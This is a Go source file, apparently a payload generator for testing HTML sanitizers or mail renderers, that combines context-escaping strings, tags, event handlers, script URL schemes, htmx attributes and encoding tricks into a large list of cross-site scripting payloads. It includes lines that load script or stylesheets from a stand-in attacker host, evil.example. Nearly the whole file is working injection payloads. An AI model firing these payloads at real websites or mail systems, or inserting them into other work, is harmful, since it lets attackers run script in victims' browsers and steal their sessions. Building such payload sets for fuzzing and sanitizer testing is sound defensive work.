package hostile

import "slices"

// outs end what a careless page has begun: text, an attribute of any quoting, an element of raw text, a comment, a script's string, a template.
var outs = []string{
	"", `">`, `'>`, "`>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "--><!--", "]]>", `" `, `' `, "{{", "\u2028", "%22%3E",
	"&#34;&#62;", "\\\">", "</bdi></td></tr></table>", "</noscript></template></iframe>",
}

// markup is for browsers, and for mail programs, which are some.
func markup() []string {
	tags := []string{
		"img", "svg", "body", "input autofocus", "details open", "video", "math", "a", "iframe", "marquee", "hx-partial", "x tabindex=0", "audio", "object", "svg/onload=1",
	}
	handlers := []string{
		"onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "hx-on:load", "hx-get", "data-hx-on:click", "ONERROR",
	}
	schemes := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
		"//evil.example/x.js", `https://evil.example/?"onclick=alert(1) x="`,
	}
	uses := []string{
		`<a href="%s">x</a>`, `<script src="%s"></script>`, `<base href="%s">`, `<meta http-equiv=refresh content="0;url=%s">`, `<form action="%s"><button>`,
		`<object data="%s">`, `<link rel=stylesheet href="%s">`, `<iframe src="%s">`,
	}
	lists := [][]string{product(`%s<%s src=x %s=alert(1)>`, outs, tags, handlers), product("%s%s", outs, schemes), product("%s%s", outs, whole)}
	for _, use := range uses {
		lists = append(lists, product("%s"+use, outs, schemes))
	}
	return slices.Concat(lists...)
}

// whole are attacks that need no part of another list.
var whole = []string{
	"<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<style>*{background:url(//evil.example)}</style>", "<style>@import '//evil.example/x.css'",
	"<template hx type=partial hx-target=body><img src=x onerror=alert(1)></template>", "{{.User}}", "${alert(1)}", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<x style=animation-name:x onanimationstart=alert(1)>", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "＜script＞alert(1)＜/script＞",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<img src=x id=dmx name=getElementById>", "<!--", "<plaintext>",
}
